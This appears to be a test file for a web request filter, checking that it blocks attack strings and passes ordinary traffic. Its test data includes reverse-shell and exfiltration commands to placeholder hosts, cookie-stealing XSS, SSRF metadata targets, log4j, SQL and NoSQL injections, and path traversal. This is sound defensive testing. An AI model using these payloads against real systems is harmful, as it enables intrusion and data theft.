import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { type InspectedRequest, inspect } from '../index.ts';
import { encodeLatin1, post, query, request } from '../testing/requests.ts';

const policy = policyOf('medium');
const form = (value: string, name = 'q') =>
  post('application/x-www-form-urlencoded', `${encodeLatin1(name)}=${encodeLatin1(value)}`);
const json = (value: string, name = 'q') => post('application/json', JSON.stringify({ [name]: value }));
const header = (value: string, name = 'user-agent') =>
  request({
    headers: [
      ['host', 'shop.example.com'],
      [name, value],
    ],
  });

/** Requests of which none may pass, shown by what of them did. */
function passed(requests: readonly (readonly [text: string, request: InspectedRequest])[]): string[] {
  expect(requests.length).toBeGreaterThan(10);
  return requests.filter(([, one]) => inspect(policy, one).decision === 'pass').map(([text]) => text);
}

const everywhere = [query, form, json];
const shell = [
  'cat /etc/passwd',
  'wget http://203.0.113.9/x',
  'nslookup x.example.net',
  'curl -d @/etc/passwd x.example',
  'bash -i',
  'whoami',
  'nc -e /bin/sh 203.0.113.9 1',
];

/** What is let pass for its form lets nothing else pass with it: an attack stands in front of it, behind it, and inside. */
describe('an excuse covers no attack', () => {
  test('stages of a query of logs', () => {
    const stages = ['| sort -count', '| head 10', '| sort by time desc', '| tail 5'];
    const separators = [';', '|', '&&', '||', '\n', ' | '];
    const texts = stages.flatMap((stage) =>
      shell.flatMap((command) =>
        separators.flatMap((separator) => [
          `index=web ${stage}${separator}${command}`,
          `index=web ${separator}${command} ${stage}`,
          `x ${stage} $(${command})`,
        ]),
      ),
    );
    const readingFiles = [
      'x | sort /etc/passwd',
      'x | head -5 /etc/passwd',
      'x | sort -o /tmp/x.php',
      'x|tail /var/log/auth.log',
      'x | sort -r ../../etc/passwd',
      '| head /etc/shadow',
      '|sort -u /etc/group | nc 203.0.113.9 1',
    ];
    expect(
      passed(
        [...texts, ...readingFiles].flatMap((text) =>
          everywhere.map((carry) => [text, carry(text)] as const),
        ),
      ),
    ).toEqual([]);
  });

  test('a product in the name of a client', () => {
    const texts = shell.flatMap((command) => [
      `Composer/2.6.6 (Linux; PHP 8.2.13; ${command})`,
      `Composer/2.6.6 (Linux; PHP 8.2.13);${command}`,
      `Composer/2.6.6 (Linux; cURL 8.4.0; x) $(${command})`,
      `Composer/2.6.6 (Linux; PHP 8.2.13 | ${command})`,
      `x (y; curl 10.1.2; ${command})`,
    ]);
    const short = [
      'x/1 (y; curl 203.0.113.9; z)',
      'x/1 (y; PHP /tmp/x)',
      ';curl 8.4.0',
      'x/1 (y; ping 8.8.8; z)',
    ];
    expect(
      passed(
        [...texts, ...short].flatMap((text) => [[text, header(text)] as const, [text, query(text)] as const]),
      ),
    ).toEqual([]);
  });

  test('one step between folders of a site', () => {
    const paths = [
      '/etc/passwd',
      '/WEB-INF/web.xml',
      '/app/settings.py',
      '/.git/config',
      '/.env',
      '/config.php',
      '/index.js',
    ];
    const steps = [
      '/static/..',
      '/static../..',
      '/static/../..',
      '/a/b/../../..',
      '/static/%2e%2e',
      '/static/..%2f..',
      '/static/..;',
      '/static/..\\..',
    ];
    const endings = ['', '?x.css', '#x.css', ';x.css', '%00.css', '%3f.css', '/..;/x.css'];
    const texts = steps.flatMap((step) =>
      paths.flatMap((path) => endings.map((ending) => step + path + ending)),
    );
    const more = [
      '/static/../../x.css',
      '/static/../a/../x.css',
      '/../x.css',
      '/..%2fx.css',
      '/static/..%5cx.css',
      '/a/..;/x.png',
    ];
    expect(passed([...texts, ...more].map((text) => [text, request({ target: text })] as const))).toEqual([]);
  });

  test('logs as a collector is told of them', () => {
    const texts = [
      '/var/log/auth.log',
      '/var/log/apache2/access.log',
      '../../var/log/*.log',
      '/var/log/../../etc/passwd*',
      '/var/log/*.log;cat /etc/passwd',
      'cat /var/log/*',
      '/etc/*',
      '/etc/passwd*',
      '/var/log/*.log\n/etc/passwd',
      '/var/lib/mysql/*',
      'glob:///var/log/*',
      '/var/log/*%00.png',
    ];
    expect(
      passed(texts.flatMap((text) => [query, form].map((carry) => [text, carry(text)] as const))),
    ).toEqual([]);
  });

  test('files of an editor, headers of a channel, servers of a proxy', () => {
    const files = [
      'file:///etc/passwd',
      'file:///proc/self/environ',
      'file:///c:/windows/win.ini',
      'php://filter/resource=x',
      '../../../etc/passwd',
      "file:///a' or '1'='1",
    ];
    const fields = ['textDocument.uri', 'rootUri'];
    const metadata = [
      'http://169.254.169.254/latest/',
      'gopher://127.0.0.1:6379/_x',
      'http://metadata.google.internal/',
      "http://127.0.0.1/' or '1'='1",
      'http://127.0.0.1/;cat /etc/passwd',
      'http://127.0.0.1/${jndi:ldap://x/a}',
    ];
    const requests = [
      ...files.flatMap((file) => fields.map((field) => [file, json(file, field)] as const)),
      ...files.flatMap((file) => [
        [file, post('application/json', JSON.stringify({ textDocument: { uri: file } }))] as const,
      ]),
      ...metadata.flatMap((address) => [
        [address, post('application/json', JSON.stringify({ upstreams: [address] }))] as const,
        [address, post('application/json', JSON.stringify({ Check: { HTTP: address } }))] as const,
        [address, form(address, 'upstreams[0]')] as const,
      ]),
      ...[
        'x\r\n\r\n<script>alert(1)</script>',
        'x\r\nA: <img src=x onerror=alert(1)>',
        "x' or '1'='1",
        'a\r\nb;cat /etc/passwd',
      ].map((text) => [text, query(text, '%24httpHeaders')] as const),
      ...['x\r\nSet-Cookie: a=b', 'x\r\nLocation: http://x'].flatMap((text) => [
        [text, query(text, 'httpHeaders')] as const,
        [text, query(text, '$httpheaders')] as const,
        [text, form(text, '$httpHeaders')] as const,
      ]),
      ...['http://127.0.0.1:22', 'http://10.0.0.1/'].flatMap((text) =>
        ['url', 'upstream_url', 'proxy', 'http', 'callback'].map((name) => [text, json(text, name)] as const),
      ),
    ];
    expect(passed(requests)).toEqual([]);
  });

  test('a dialog that somebody writes of', () => {
    const scripts = [
      'alert(1)',
      'alert(document.domain)',
      'alert`1`',
      "eval('x')",
      'confirm(1)',
      "fetch('//x.example/'+document.cookie)",
      '<svg onload=alert()>',
      '<img src=x onerror=alert()>',
      'javascript:alert(1)',
    ];
    const told = 'I need an alert(), not a prompt.';
    const shown = 'Please alert("me") when it arrives.';
    const texts = scripts.flatMap((script) => [
      `${told} ${script}`,
      `${script} ${told}`,
      `${told}${script}`,
      `${told}\n${script}`,
      `'-${script}-' ${told}`,
      `${shown} ${script}`,
      `${script} ${shown}`,
    ]);
    const near = [
      "'-alert(),x",
      "';alert();//",
      'alert(),fetch(name)',
      '<svg onload=alert(),not>',
      "'-alert()-'",
      'alert(), not(1)',
      'x;alert();y',
      '"};alert();{"',
    ];
    expect(
      passed([...texts, ...near].flatMap((text) => everywhere.map((carry) => [text, carry(text)] as const))),
    ).toEqual([]);
  });

  test('filters of several levels', () => {
    const names = [
      'filters[$or][0][password][$eq]',
      'user[$or][0][name][$eq]',
      'filters[$or][0][password][$ne]',
      'q[$or][0][title][$ne]',
      'filters[$or][0][title][$regex]',
      'filters[$where]',
      'login[$or][0][x][$contains]',
      'filters[$or][0][token][$startsWith]',
      'password[$eq]',
      'filters[$and][0][title][$where]',
      'filters[$or][0][$where]',
      'filters[$or][0][email][$contains]',
      'x[$or][0][a][$eq]',
    ];
    expect(
      passed(
        names.flatMap((name) => [
          [name, request({ target: `/api?${name}=x` })] as const,
          [name, form('x', name)] as const,
        ]),
      ),
    ).toEqual([]);
  });

  test('a name of an upload and the same in ASCII', () => {
    const heads = [
      `filename="a.jpg"; filename*=UTF-8''a.php`,
      `filename="a.php"; filename*=UTF-8''a.jpg`,
      `filename="a.pdf"; filename*=UTF-8''a.jpg`,
      `filename="a.jpg"; filename="b.jpg"`,
      `filename*=UTF-8''a.jpg; filename*=UTF-8''b.jpg`,
      `filename="a.php.jpg"; filename*=UTF-8''b.jpg`,
      `filename="a.jpg"; filename*=UTF-8''..%2fb.jpg`,
      `filename="a.jpg"; filename*=UTF-8''b.php%00.jpg`,
      `filename="a.jpg"; filename*=UTF-8''b.php;.jpg`,
      `filename="a.jpg"; filename*=UTF-8''b%0d%0a.jpg`,
      `filename="a.jpg"; filename="b.jpg"; filename*=UTF-8''c.jpg`,
      `filename=x; filename*=UTF-8''y`,
    ];
    const upload = (head: string) =>
      post(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="f"; ${head}\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b--\r\n`,
      );
    expect(passed(heads.map((head) => [head, upload(head)] as const))).toEqual([]);
  });
});

/** What the excuses are for, and what was mended with them. */
describe('ordinary requests', () => {
  test('of logs, editors, consoles and browsers pass', () => {
    const upload = (head: string) =>
      post(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="f"; ${head}\r\n\r\nx\r\n--b--\r\n`,
      );
    const ordinary: readonly InspectedRequest[] = [
      query('index=app level=error | stats count by host | sort - count | head 20'),
      json('Heartbeat | summarize max(TimeGenerated) by Computer | sort by Computer asc'),
      header('Composer/2.2.22 (Linux; 6.1.0; PHP 7.4.33)'),
      request({ target: '/theme/css/../img/bg/header.webp' }),
      form('/var/log/nginx/*.access.log'),
      post('application/json', JSON.stringify({ textDocument: { uri: 'file:///home/ann/src/main.rs' } })),
      form('/docs/access_log.html'),
      query('name;id|name'),
      query('order by phone or email'),
      query('wall&ping-pong tables'),
      form('a=1&ping=on&host=b.example'),
      post(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="file"; filename="package.json"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ scripts: { clean: 'rm -rf dist coverage' } })}\r\n--b--\r\n`,
      ),
      form('We order by 3 or 4 people'),
      query('X-Client: a/1\r\nAuthorization: Bearer x', '%24httpHeaders'),
      post('application/json', JSON.stringify({ site: { upstreams: ['http://10.0.0.7:3000'] } })),
      post('application/json', JSON.stringify({ backends: [{ url: 'http://127.0.0.1:9000' }] })),
      form('The page calls confirm(), then a list of items appears.'),
      request({ target: "/api/posts?filters[$and][0][category][name][$containsi]=d'a" }),
      request({ target: '/api/posts?filters[$or][1][slug][$eq]=a' }),
      upload(`filename="Pr_sentation.pptx"; filename*=UTF-8''Pr%C3%A9sentation.pptx`),
    ];
    expect(ordinary.map((one) => inspect(policy, one).matches)).toEqual(ordinary.map(() => []));
  });

  test('of documents and of those who show commands pass at high too', () => {
    const high = policyOf('high');
    const shown: readonly InspectedRequest[] = [
      form('<h1>News</h1><p>We <em>moved</em>: <a href="/map">map</a></p>', 'body'),
      json('SELECT name, price FROM items WHERE price > 5 ORDER BY price', 'statement'),
      json('npm ci && npm run build | tee build.log', 'run'),
      json('<?php function area($r) { return 3 * $r; }', 'source'),
      json('postgres://app:pw@db.example.com/app', 'database_url'),
      json('(&(objectClass=person)(mail=ann@example.com))', 'search_filter'),
      post('application/json', JSON.stringify({ where: { price: { $gte: 5 } } })),
      query('select a sofa from our store'),
      query('dash', 'protocol'),
      form('sqlmap', 'repository'),
      json("ps aux | grep node | awk '{print $2}'", 'command'),
      json('/var/log/nginx/access.log', 'log.file.path'),
    ];
    expect(shown.map((one) => inspect(high, one).decision)).toEqual(shown.map(() => 'pass'));
  });
});

describe('at high', () => {
  test('a bare probe and a command line where none is expected are enough', () => {
    const high = policyOf('high');
    const alone = [
      query('whoami'),
      form('ifconfig'),
      query('systeminfo'),
      json('ping -c 1 x.example', 'host'),
    ];
    expect(alone.map((one) => inspect(high, one).decision)).toEqual(alone.map(() => 'block'));
  });
});

describe('attacks that a round of unseen requests showed to be missed', () => {
  test('are blocked, in other words than it had', () => {
    const texts = [
      "x';drop/**/table/**/accounts--",
      "1;waitfor/*x*/delay/*x*/'0:0:9'",
      '"; shutdown --',
      '7 or 9-2=7',
      '1 and 3*4=12-- ',
      'mshta.exe javascript:close()',
      'msiexec /q /i https://x.example/a.msi',
      'rundll32 \\\\198.51.100.2\\x\\a.dll,Start',
      '<%@ Import Namespace="System.IO" %>',
      '$__=[];$__=@"$__";$___=$__[0];',
      '(()=>{return process.env})()',
      '\\\\files.x.example\\pub\\run.hta',
      'https://x.example/r57shell.txt',
      'x\ncat /etc/shadow',
      'see it \ncat /etc/passwd',
      'ORDER BY 4711 -- ',
      'db1&ping e.example -c 9',
      'declare @q varchar(99) set @q = 0x73656c65637420 exec(@q)',
      '9;id|',
      'x";cat$z /etc$z/shadow$z',
      "x', $where: '2 == 2'",
      "a' } ], $or: [{}]",
      '|| 7==7',
      'http://////127.0.0.1/',
      "'';!--\"<PROBE>=&{()}",
    ];
    const requests = [
      ...texts.flatMap((text) => everywhere.map((carry) => [text, carry(text)] as const)),
      ...[
        '/x/admin~1*/a.aspx',
        '/cgi-bin/nas_sharing.cgi?a=1',
        '/x?jsp=/app/rest/server;.jsp',
        '/x?f=/srv/web/logs/error_log',
        '/x?f=D:%5CServers%5Capache%5Cconf%5Chttpd.conf',
        '/x?q=%0d%0a%09x-a:b',
        '/x?q=a%0d%0aLocation:%0d%0ax:x',
        '/autodiscover/autodiscover.json?@x.example/powershell/',
      ].map((target) => [target, request({ target })] as const),
      ...['post_render', 'lazy_builder'].map(
        (name) => [name, form('passthru', `timezone[a][#${name}][]`)] as const,
      ),
      [
        'x-middleware-subrequest',
        header('src/middleware:src/middleware', 'x-middleware-subrequest'),
      ] as const,
      ['stylesheet', post('text/xml', '<?xml-stylesheet href="http://x.example/a.xsl"?><r/>')] as const,
    ];
    expect(passed(requests)).toEqual([]);
  });
});
